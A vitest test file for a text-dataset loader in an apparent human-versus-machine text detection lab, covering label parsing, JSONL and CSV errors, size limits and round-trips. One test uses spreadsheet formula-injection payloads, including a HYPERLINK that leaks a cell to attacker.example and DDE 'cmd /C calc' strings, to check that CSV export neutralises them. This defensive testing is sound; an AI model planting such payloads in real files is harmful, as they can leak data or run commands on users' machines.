import { existsSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '@/src/lab/csv';
import { MAX_FILE_BYTES, MAX_TEXT_CHARS, parseDataset, parseLabel, readDatasetFile, toCsv, toJsonl, type LabItem } from '@/src/lab/dataset';

const items: LabItem[] = [
  { id: 'a', text: 'First text, with a comma and "quotes".', label: 'human', group: 'non-native' },
  { id: 'b', text: 'Second\ntext on two lines; with a semicolon.', label: 'machine', source: 'written for the lab' },
  { id: 'c', text: 'Troisième texte — « guillemets ».', label: 'human', lang: 'fr', domain: 'essay', generator: 'human' },
];

describe('parseLabel', () => {
  it.each([
    ['human', 'human'],
    [' Human ', 'human'],
    ['humain', 'human'],
    ['machine', 'machine'],
    ['AI', 'machine'],
    ['IA', 'machine'],
    [1, 'machine'],
    [0, 'human'],
    ['1', 'machine'],
    [true, 'machine'],
    ['maybe', undefined],
    [2, undefined],
    [null, undefined],
  ])('%j -> %j', (input, out) => {
    expect(parseLabel(input)).toBe(out);
  });
});

describe('parseDataset: JSON lines', () => {
  it('reads the dev-set format as is (id, text, label, source, domain, lang, generator)', () => {
    const line = JSON.stringify({ id: 'm4:x:1', text: 'Some text.', label: 'machine', source: 'S', domain: 'wikihow', lang: 'en', generator: 'llama' });
    const r = parseDataset(line + '\n', 'dev.jsonl');
    expect(r.problems).toEqual([]);
    expect(r.items).toEqual([{ id: 'm4:x:1', text: 'Some text.', label: 'machine', source: 'S', domain: 'wikihow', lang: 'en', generator: 'llama' }]);
  });

  it('one oversize item (a 6-million-character line) is reported with its line; the rest loads', () => {
    const huge = JSON.stringify({ id: 'big', text: 'x'.repeat(6_000_000), label: 'human' });
    const content = [JSON.stringify({ text: 'First text.', label: 'human' }), huge, JSON.stringify({ text: 'Third text.', label: 'machine' })].join('\n');
    const t = performance.now();
    const r = parseDataset(content, 'set.jsonl');
    expect(performance.now() - t).toBeLessThan(1000);
    expect(r.items.map((i) => i.text)).toEqual(['First text.', 'Third text.']);
    expect(r.problems.map(({ line, code, detail }) => ({ line, code, detail }))).toEqual([{ line: 2, code: 'text-too-long', detail: String(MAX_TEXT_CHARS) }]);
    expect(typeof r.problems[0]?.excerpt).toBe('string');
    expect(r.problems.map((p) => p.code)).not.toContain('empty-file');
  });

  it.each([
    ['JSON lines', (t: string) => `${JSON.stringify({ text: 'ok', label: 'human' })}\n${JSON.stringify({ text: t, label: 'human' })}`, 'set.jsonl', 2],
    ['CSV', (t: string) => `text,label\nok,human\n${t},human`, 'set.csv', 3],
  ])('a text just over the limit is refused by name in %s', (_, make, name, line) => {
    const r = parseDataset(make('y'.repeat(MAX_TEXT_CHARS + 1)), name);
    expect(r.items.map((i) => i.text)).toEqual(['ok']);
    expect(r.problems.map((p) => [p.line, p.code])).toEqual([[line, 'text-too-long']]);
    expect(parseDataset(make('y'.repeat(MAX_TEXT_CHARS)), name).items).toHaveLength(2);
  });

  it('a file over the lab limit is refused before it is read', async () => {
    let read = false;
    const file = { name: 'big.jsonl', size: MAX_FILE_BYTES + 1, text: () => ((read = true), Promise.resolve('')) };
    expect(await readDatasetFile(file)).toEqual({ items: [], problems: [{ line: 0, code: 'file-too-large', detail: '50' }], format: 'jsonl' });
    expect(read).toBe(false);
    const small = { name: 'ok.jsonl', size: 40, text: () => Promise.resolve(JSON.stringify({ text: 'A text.', label: 'human' })) };
    expect((await readDatasetFile(small)).items).toHaveLength(1);
  });

  it('round-trips through toJsonl', () => {
    expect(parseDataset(toJsonl(items), 'set.jsonl').items).toEqual(items);
  });

  it('accepts a JSON array file', () => {
    const r = parseDataset(JSON.stringify(items), 'set.json');
    expect(r.items).toEqual(items);
  });

  it('reports every bad line with its number and keeps the good ones', () => {
    const content = [
      JSON.stringify({ text: 'ok one', label: 'human' }),
      '{"text": "broken json", ',
      '',
      '[1,2]',
      JSON.stringify({ label: 'human' }),
      JSON.stringify({ text: 'no label' }),
      JSON.stringify({ text: 'odd label', label: 'perhaps' }),
      JSON.stringify({ text: 'ok two', label: 'machine' }),
    ].join('\r\n');
    const r = parseDataset(content, 'x.jsonl');
    expect(r.items.map((i) => i.text)).toEqual(['ok one', 'ok two']);
    expect(r.items.map((i) => i.id)).toEqual(['line-1', 'line-8']);
    expect(r.problems.map((p) => [p.line, p.code])).toEqual([
      [2, 'bad-json'],
      [4, 'not-an-object'],
      [5, 'missing-text'],
      [6, 'missing-label'],
      [7, 'bad-label'],
    ]);
    expect(r.problems[4]!.detail).toBe('perhaps');
    expect(r.problems[0]!.excerpt).toContain('broken json');
  });

  it('keeps duplicate ids by renaming, and says so', () => {
    const content = [{ id: 'x', text: 'a', label: 'human' }, { id: 'x', text: 'b', label: 'human' }].map((o) => JSON.stringify(o)).join('\n');
    const r = parseDataset(content, 'd.jsonl');
    expect(r.items.map((i) => i.id)).toEqual(['x', 'x#2']);
    expect(r.problems).toEqual([{ line: 0, code: 'duplicate-id', detail: 'x' }]);
  });

  it.each([
    ['', 'e.jsonl'],
    ['\n\n  \n', 'e.jsonl'],
    ['', 'e.csv'],
  ])('an empty file %j (%s) says it is empty', (content, name) => {
    const r = parseDataset(content, name);
    expect(r.items).toEqual([]);
    expect(r.problems).toEqual([{ line: 0, code: 'empty-file' }]);
  });

  it('guesses the format without a file name', () => {
    expect(parseDataset('{"text":"a","label":"human"}').format).toBe('jsonl');
    expect(parseDataset('text,label\na,human').format).toBe('csv');
  });
});

describe('parseDataset: CSV', () => {
  it('round-trips through toCsv', () => {
    expect(parseDataset(toCsv(items), 'set.csv').items).toEqual(items);
  });

  it('matches column names case-insensitively, in any order, with French synonyms', () => {
    const r = parseDataset('Étiquette;Groupe;Texte\nhumain;non-natif;"Un texte; court."\nIA;;Un autre.', 'f.csv');
    expect(r.problems).toEqual([]);
    expect(r.items).toEqual([
      { id: 'row-1', text: 'Un texte; court.', label: 'human', group: 'non-natif' },
      { id: 'row-2', text: 'Un autre.', label: 'machine' },
    ]);
  });

  it('reports rows with the wrong number of fields, bad labels and missing text, with line numbers', () => {
    const csv = 'text,label,group\n"good, one",human,a\nunquoted, comma,human,b\n"multi\nline",machine,\n,human,c\nfine,robot,d\nshort\nlast,machine,e,\n';
    const r = parseDataset(csv, 's.csv');
    expect(r.items.map((i) => i.text)).toEqual(['good, one', 'multi\nline', 'last']);
    expect(r.problems.map((p) => [p.line, p.code])).toEqual([
      [3, 'wrong-field-count'],
      [6, 'missing-text'],
      [7, 'bad-label'],
      [8, 'wrong-field-count'],
    ]);
  });

  it('reports an unterminated quote', () => {
    const r = parseDataset('text,label\n"open,human\n', 's.csv');
    expect(r.problems.map((p) => p.code)).toContain('unterminated-quote');
  });

  it('one unbalanced quote does not swallow the valid rows after it', () => {
    const r = parseDataset('text,label\n"ok one",human\n"bad quote,machine\nok three,human\n"ok four",machine\n', 's.csv');
    expect(r.items.map((i) => i.text)).toEqual(['ok one', 'ok three', 'ok four']);
    expect(r.problems.map((p) => [p.line, p.code])).toEqual([[3, 'unterminated-quote']]);
  });

  it('a formula set exported to CSV is spreadsheet-safe, and reads back intact', () => {
    const formulas: LabItem[] = [
      { id: '=1+1', text: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")', label: 'human', group: '+cmd|\' /C calc\'!A0' },
      { id: 'b', text: '@SUM(1+1)*cmd|\' /C calc\'!A0', label: 'machine', source: '-2+3' },
      { id: 'c', text: '\t=1+1 after a tab', label: 'human', domain: '=cmd' },
      { id: 'd', text: '\r=1+1 after a carriage return', label: 'machine' },
      { id: 'e', text: "'=already quoted", label: 'machine' },
    ];
    const csv = toCsv(formulas);
    for (const row of parseCsv(csv).rows) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    expect(parseDataset(csv, 'set.csv').items).toEqual(formulas);
  });

  it.each([
    ['a,b\n1,2', 'no-header'],
    ['text,kind\nx,human', 'no-label-column'],
    ['body2,label\nx,human', 'no-text-column'],
  ])('a file without the needed columns (%j) says which', (content, code) => {
    const r = parseDataset(content, 'x.csv');
    expect(r.items).toEqual([]);
    expect(r.problems.map((p) => p.code)).toContain(code);
  });
});

const DEV = resolve(__dirname, '../../../../shared/data/dev.jsonl');
describe.skipIf(!existsSync(DEV))('the shared dev set', () => {
  it('loads as is, with nothing lost', () => {
    const content = readFileSync(DEV, 'utf8');
    const r = parseDataset(content, 'dev.jsonl');
    expect(r.problems).toEqual([]);
    expect(r.items.length).toBe(content.split('\n').filter((l) => l.trim()).length);
  });
});
